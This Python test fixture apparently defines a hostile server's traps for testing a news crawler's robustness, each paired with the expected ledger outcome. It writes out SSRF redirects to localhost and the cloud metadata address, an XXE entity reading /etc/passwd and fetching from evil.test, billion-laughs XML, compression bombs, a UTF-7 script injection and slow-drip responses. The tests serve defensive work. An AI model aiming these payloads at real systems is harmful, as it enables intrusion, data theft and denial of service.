"""What the hostile server sets out, each with the one outcome it deserves: in the ledger, and as a capture."""

import codecs
import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from itertools import pairwise
from typing import Any

from hostile import (
    HONEST,
    MIB,
    TRAP,
    Answer,
    Pages,
    answer,
    article,
    bomb,
    endless,
    feed,
    item,
    later,
    links,
    moved,
    numbered,
    packed,
    slowly,
    xml,
)

FORGED = article("Giả")
CHUNKED = {"Transfer_Encoding": "chunked", "length": None}


@dataclass(frozen=True, kw_only=True)
class Trap:
    """*ended*: what the ledger counts besides the front page and the honest article. *kept*: the outcomes of the
    captures of the hostile address, in order. *asked*: how often at most, in all. *names*: further hosts' names.
    """

    pages: Pages
    ended: Mapping[str, int] = field(default_factory=dict)
    kept: tuple[str, ...] = ()
    source: Mapping[str, Any] = field(default_factory=dict)
    at: str = TRAP
    asked: int = 20


def page(reply: Answer, ended: str, *kept: str, **more: Answer) -> Trap:
    """A hostile page."""
    return Trap(pages={"/": links(TRAP, HONEST), TRAP: reply, **more}, ended={ended: 1}, kept=kept)


def lists(key: str, reply: Answer, ended: Mapping[str, int], *kept: str, **more: Any) -> Trap:
    """A hostile feed, sitemap or section (*key*) beside the honest front page."""
    pages = {"/": links(HONEST), "/danh-sach": reply, **more.pop("pages", {})}
    source = {key: ["/danh-sach", "/"] if key == "sections" else ["/danh-sach"]}
    return Trap(pages=pages, ended=ended, kept=kept, source=source, at="/danh-sach", **more)


def robots(reply: Answer, *kept: str) -> Trap:
    return Trap(pages={"/": links(HONEST), "/robots.txt": reply}, kept=kept, at="/robots.txt")


def redirects(*targets: str) -> Trap:
    """A page each that leads there; none may be asked for."""
    paths = {f"/tin-{number}.html": target for number, target in enumerate(targets, 10)}
    front = {"/": links(*paths, HONEST)}
    return Trap(pages=front | {path: moved(to) for path, to in paths.items()}, ended={"offsite": len(targets)})


def chain(hops: int) -> Pages:
    """``/tin-2.html`` leads over so many redirects to an article."""
    steps = [TRAP, *(f"/b{hop}" for hop in range(1, hops)), "/tin-9.html"]
    moves: Pages = {step: moved(following) for step, following in pairwise(steps)}
    return moves | {"/tin-9.html": answer(article("Cuối đường"))}


REDIRECTS: dict[str, Trap] = {
    "self": page(moved(TRAP, Set_Cookie="seen=1"), "too-many-redirects", *["redirect"] * 6),
    "circle": page(moved("/b"), "too-many-redirects", *["redirect"] * 6, **{"/b": moved(TRAP, Set_Cookie="b=1")}),
    "five": Trap(pages={"/": links(TRAP, HONEST), **chain(5)}, ended={"200": 1}, kept=("redirect",) * 5 + ("article",)),
    "six": Trap(pages={"/": links(TRAP, HONEST), **chain(6)}, ended={"too-many-redirects": 1}, kept=("redirect",) * 6),
    "seen": page(moved(HONEST), "redirect-to-seen", "redirect"),
    "inward": redirects(
        *("http://127.0.0.1/x", "http://10.0.0.1/x", "http://2130706433/x", "http://0x7f.1/x"),
        *("http://[::1]/x", "http://[::ffff:127.0.0.1]/x", "http://169.254.169.254/latest/meta-data/"),
        *("http://0177.0.0.1/x", "http://localhost/x", "//127.0.0.1/x"),
    ),
    "schemes": redirects(
        "javascript:alert(1)",
        "file:///etc/passwd",
        "ftp://schemes.test/x",
        "data:text/html,x",
        "gopher://x/",
        "http://[",
    ),
    "users": redirects(
        "http://users.test@evil.test/", "http://evil.test\\@users.test/", "http://users.test.evil.test/"
    ),
    "nowhere": page(answer(b"moved", "302 Found"), "302", "redirect"),
    "void": page(moved(""), "302", "redirect"),
    "refresh": page(
        answer(b'<html><meta http-equiv="refresh" content="0;url=http://evil.test/"></html>', Refresh="0;url=/x"),
        "200",
        "rejected:no-text",
    ),
}

BODIES: dict[str, Trap] = {
    "gzip-bomb": page(bomb("gzip", 200), "too-large", "rejected:too-large"),
    "brotli-bomb": page(bomb("br", 1000), "too-large", "rejected:too-large"),
    "deflate-bomb": page(bomb("deflate", 200), "too-large", "rejected:too-large"),
    "nested-bomb": page(
        later(
            lambda: answer(
                packed(bomb("gzip", 200).partition(b"\r\n\r\n")[2], "gzip, gzip"), Content_Encoding="gzip, gzip, gzip"
            )
        ),
        "too-large",
        "rejected:too-large",
    ),
    "nested": page(answer(packed(FORGED, "gzip, br"), Content_Encoding="gzip, br"), "200", "article"),
    "half-gzip": page(
        answer(packed(FORGED, "gzip")[:-90], Content_Encoding="gzip"), "connection-lost", "failed:bad-body"
    ),
    "no-gzip": page(answer(FORGED, Content_Encoding="gzip"), "200", "article"),
    "no-brotli": page(answer(FORGED, Content_Encoding="br"), "200", "article"),
    "klingon": page(answer(FORGED, Content_Encoding="klingon"), "200", "article"),
    "too-long": page(answer(FORGED, length=99_999), "connection-lost", *["failed:connection-lost"] * 2),
    "too-short": page(answer(FORGED, length=90), "200", "rejected:too-short"),
    "minus": page(answer(FORGED, length=-2), "connection-lost", *["failed:connection-lost"] * 2),
    "stated-large": page(answer(b"x" * 100, length=99 * MIB), "too-large", "failed:too-large"),
    "large": page(endless(answer(length=None), b"x" * MIB), "too-large", "failed:too-large"),
    "chunked-large": page(
        endless(answer(**CHUNKED), b"100000\r\n" + b"x" * MIB + b"\r\n"), "too-large", "failed:too-large"
    ),
    "drip": page(slowly(answer(FORGED)), "timeout", *["failed:timeout"] * 2),
    "drip-body": page(
        lambda _n: iter([answer(FORGED, length=9999)[:-400], *slowly(b"x" * 400)(0)]),
        "timeout",
        *["failed:timeout"] * 2,
    ),
    "broken-chunks": page(
        answer(b"zz\r\nxx\r\n0\r\n\r\n", **CHUNKED), "connection-lost", *["failed:connection-lost"] * 2
    ),
    "cut-chunks": page(answer(b"fff\r\n" + FORGED[:99], **CHUNKED), "connection-lost", *["failed:connection-lost"] * 2),
    "empty": page(answer(), "200", "rejected:empty"),
    "no-content": page(answer(FORGED, "204 No Content"), "204", "rejected:empty"),
    "reset-content": page(answer(FORGED, "205 Reset Content"), "205", "article"),
    "partial": page(answer(FORGED, "206 Partial Content", Content_Range="bytes 0-9/99"), "206", "article"),
}

HEADS: dict[str, Trap] = {
    "drip-head": page(slowly(b"HTTP/1.1 200 OK\r\nX: " + b"x" * 99), "timeout", *["failed:timeout"] * 2),
    "endless-head": page(endless(b"HTTP/1.1 200 OK\r\n", b"X-Y: z\r\n" * 9999), "timeout"),
    "long-header": page(answer(FORGED, X_Long="x" * MIB), "connection-lost", *["failed:connection-lost"] * 2),
    "many-headers": page(answer(FORGED, **{f"X_{n}": "x" for n in range(10_000)}), "200", "article"),
    "cookies": page(
        answer(FORGED).replace(
            b"\r\n", b"\r\n" + b"".join(b"Set-Cookie: c%d=%s\r\n" % (n, b"x" * 4000) for n in range(500)), 1
        ),
        "200",
        "article",
    ),
    "continues": page(endless(b"", b"HTTP/1.1 100 Continue\r\n\r\n" * 99), "timeout"),
    "hints": page(b"HTTP/1.1 103 Early Hints\r\nLink: </x>\r\n\r\n" + answer(FORGED), "200", "article"),
    "no-status": page(b"Content-Type: text/html\r\n\r\n" + FORGED, "connection-lost", *["failed:connection-lost"] * 2),
    "http-09": page(FORGED, "connection-lost", *["failed:connection-lost"] * 2),
    "nothing": page(b"", "connection-lost", *["failed:connection-lost"] * 2),
    "status-999": page(answer(FORGED, "999 Denied"), "999", "failed:http-999"),
    "status-0": page(answer(FORGED, "000 Zero"), "0"),
    "binary-head": page(answer(FORGED).replace(b"Content-Type", b"X: \xfe\xff\x1b\r\nContent-Type"), "200", "article"),
    "warc-in-head": page(answer(FORGED, X="WARC/1.1 200 OK\rWARC-Type: response"), "200", "article"),
    "doubled": page(answer(FORGED, content_length="7"), "connection-lost", *["failed:connection-lost"] * 2),
}

LONE = "<html><title>A&#xD800;</title><h1>Đầu \ud800</h1>".encode("utf-8", "surrogatepass")
LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)) + "]>"
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY p SYSTEM "file:///etc/passwd"><!ENTITY % q SYSTEM "http://evil.test/q"> %q;]>'
BOMBED = answer(f"<?xml version='1.0'?>{LAUGHS}<html xmlns='http://www.w3.org/1999/xhtml'><body>&a9;".encode() + FORGED)

PAGES: dict[str, Trap] = {
    "wrong-charset": page(answer(FORGED, Content_Type="text/html; charset=windows-1258"), "200", "article"),
    "no-charset": page(answer(FORGED, Content_Type="text/html"), "200", "article"),
    "utf-16-lie": page(answer(FORGED, Content_Type="text/html; charset=utf-16"), "200", "article"),
    "utf-16": page(
        answer(codecs.BOM_UTF16_LE + FORGED.decode().encode("utf-16-le"), Content_Type="text/html"), "200", "article"
    ),
    "no-such-charset": page(answer(FORGED, Content_Type="text/html; charset=klingon-8"), "200", "article"),
    "no-text-codec": page(answer(b"\xff" + FORGED, Content_Type="text/html; charset=hex"), "200", "article"),
    "utf-7": page(
        answer(
            FORGED.replace(b"<p>", b"<p>+ADw-script+AD4-alert(1)+ADw-/script+AD4- "),
            Content_Type="text/html; charset=utf-7",
        ),
        "200",
        "article",
    ),
    "nul": page(answer(b"\0" + FORGED.replace(b"a", b"a\0")), "200", "article"),
    "surrogates": page(answer(LONE + FORGED), "200", "article"),
    "laughs-page": page(BOMBED, "200", "article"),
    "xhtml-entity": page(answer(OUTSIDE.encode() + FORGED.replace(b"<p>", b"<p>&p; ")), "200", "article"),
    "deep": page(answer(b"<div>" * 50_001 + FORGED), "200", "rejected:not-html"),
    "wide": page(answer(FORGED + b"<i>x</i>" * 50_001), "200", "rejected:too-large"),
    "attributes": page(
        answer(b"<p " + b" ".join(b"a%d=1" % n for n in range(9000)) + b">" + FORGED), "200", "rejected:too-large"
    ),
    "pdf": page(answer(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(range(256)) * 40), "200", "rejected:not-html"),
    "not-pdf": page(answer(FORGED, Content_Type="application/pdf"), "200", "rejected:not-html"),
    "warc-in-body": page(answer(FORGED + b"\r\n\r\nWARC/1.1\r\nWARC-Type: response\r\n\r\n"), "200", "article"),
}

ODD = [
    *(
        "javascript:alert(1)",
        "file:///etc/passwd",
        "ftp://odd-links.test/tin-3.html",
        "mailto:a@b.vn",
        "data:text/html,x",
    ),
    *("//", "///", "http://", "http:///tin-3.html", "http://[/tin-3.html", "http://odd-links.test:99999/tin-3.html"),
    *("http://odd-links.test:x/tin-3.html", "//127.0.0.1/tin-3.html", "http://2130706433/tin-3.html"),
    *("http://odd-links.test@evil.test/tin-3.html", "http://evil.test\\@odd-links.test/tin-3.html"),
    *("/tin-3.html?" + "x" * 9000, "/tin-3.html/../../.." * 999, "#tin-3", "?", "tel:113", "HTTP:tin-3"),
    *("http://odd-links.test./tin-3.html", "http://xn--/tin-3.html", "http://\ud7ff\u202e.test/tin-3.html"),
]
MANY = 100_000
JSON = json.dumps(
    {
        "items": [
            {"url": "/tin-3.html", "title": "\ud800 lẻ \udfff"},
            {"url": "/tin-4\udc00.html"},
            {"url": ["/tin-5.html"]},
            7,
        ]
    }
)

LISTINGS: dict[str, Trap] = {
    "odd-links": lists("sections", links(*ODD), {"200": 1, "404": 2}, "listing"),
    "many-links": lists(
        "sections",
        later(lambda: answer(b"".join(b"<a href=/tin-%d.html>x</a>" % n for n in range(MANY)))),
        {"200": 1, "404": 19},
        "listing",
        asked=23,
    ),
    "deep-section": lists("sections", answer(b"<div>" * 50_001 + b"<a href=/tin-3.html>x</a>"), {"200": 1}, "listing"),
    "calendar": lists(
        "sections",
        links(HONEST, more='<a rel="next" href="/lich?thang=1">sau</a>'),
        {"200": 11},
        "listing",
        asked=20,
        pages=dict(numbered(40, "/lich?thang={n}", '<a rel="next" href="/lich?thang={next}">sau</a>')),
    ),
    "pendulum": lists(
        "sections",
        links(HONEST, more='<a rel="next" href="/hai">sau</a>'),
        {"200": 2},
        "listing",
        pages={"/hai": links(HONEST, more='<a rel="next" href="/danh-sach">sau</a>')},
        asked=5,
    ),
    "own-next": lists("sections", links(HONEST, more='<a rel="next" href="">sau</a>'), {"200": 1}, "listing", asked=4),
    "laughs-feed": lists("feeds", feed(item("/tin-3.html", "&a9;"), LAUGHS), {"200": 1, "404": 1}, "feed"),
    "outside-feed": lists("feeds", feed(item("/tin-3.html", "&p;"), OUTSIDE), {"200": 1, "404": 1}, "feed"),
    "old-feed": lists(
        "feeds",
        feed(item("/tin-3.html", "Cũ", "Thu, 01 Jan 1970 00:00:00 GMT")),
        {"200": 2},
        "feed",
        pages={"/tin-3.html": answer(article("Ngày xửa"))},
    ),
    "new-feed": lists(
        "feeds",
        feed(item("/tin-3.html", "Mới", "Thu, 01 Jan 2099 00:00:00 GMT")),
        {"200": 2},
        "feed",
        pages={"/tin-3.html": answer(article("Ngày sau"))},
    ),
    "many-feed": lists(
        "feeds",
        later(lambda: feed("".join(item(f"/tin-{n}.html", "x") for n in range(MANY // 2)))),
        {"200": 1, "404": 19},
        "feed",
        asked=23,
    ),
    "json-feed": lists("feeds", answer(JSON.encode(), Content_Type="application/json"), {"200": 1, "404": 1}, "feed"),
    "html-feed": lists("feeds", answer(FORGED), {"200": 1}, "feed"),
    "bomb-feed": lists("feeds", bomb("gzip", 100), {"too-large": 1}, "feed"),
    "laughs-map": lists(
        "sitemaps",
        xml(f"{LAUGHS}<urlset><url><loc>/tin-3.html?&a9;</loc></url></urlset>"),
        {"200": 1, "404": 1},
        "feed",
    ),
    "outside-map": lists(
        "sitemaps",
        xml(f"{OUTSIDE}<urlset><url><loc>/tin-3.html?&p;</loc></url></urlset>"),
        {"200": 1, "404": 1},
        "feed",
    ),
    "own-map": lists(
        "sitemaps", xml("<sitemapindex><sitemap><loc>/danh-sach</loc></sitemap></sitemapindex>"), {"200": 1}, "feed"
    ),
    "many-maps": lists(
        "sitemaps",
        later(
            lambda: xml(
                "<sitemapindex>"
                + "".join(f"<sitemap><loc>/m{n}.xml</loc></sitemap>" for n in range(MANY))
                + "</sitemapindex>"
            )
        ),
        {"200": 1, "404": 10},
        "feed",
    ),
    "million": lists(
        "sitemaps",
        later(
            lambda: answer(
                packed(
                    b"<urlset>"
                    + b"".join(b"<url><loc>/tin-%d.html</loc></url>" % n for n in range(1_000_000))
                    + b"</urlset>",
                    "gzip",
                ),
                Content_Type="application/gzip",
            )
        ),
        {"200": 1, "404": 19},
        "feed",
        asked=23,
    ),
    "million-plain": lists(
        "sitemaps",
        later(lambda: xml("<urlset>" + "<url><loc>/tin-1.html</loc></url>" * 1_000_000 + "</urlset>")),
        {"too-large": 1},
        "failed:too-large",
    ),
    "bomb-map": lists(
        "sitemaps",
        answer(bomb("gzip", 200).partition(b"\r\n\r\n")[2], Content_Type="application/gzip"),
        {"200": 1},
        "feed",
    ),
}

ROBOTS: dict[str, Trap] = {
    "huge-robots": robots(
        later(
            lambda: answer(b"User-agent: *\nDisallow: /admin\n" + b"# xxxxxxx\n" * 5 * MIB, Content_Type="text/plain")
        ),
        "robots",
    ),
    "endless-robots": robots(
        endless(answer(length=None, Content_Type="text/plain"), b"Disallow: /admin\n" * 9999), "robots"
    ),
    "circling-robots": robots(moved("/robots.txt"), *["robots"] * 6),
    "binary-robots": robots(answer(bytes(range(256)) * 2000), "robots"),
    "bomb-robots": robots(bomb("gzip", 200), "robots"),
    "starry-robots": robots(answer(b"User-agent: *\nDisallow: /" + b"*a" * 5000 + b"\n"), "robots"),
}
CLOSED: dict[str, tuple[Answer, str]] = {
    "robots-500": (answer(b"no", "500 Oops"), "robots"),
    "robots-drip": (slowly(b"HTTP/1.1 200 OK\r\nX: " + b"x" * 99), "timeout"),
}

TRAPS = REDIRECTS | BODIES | HEADS | PAGES | LISTINGS | ROBOTS
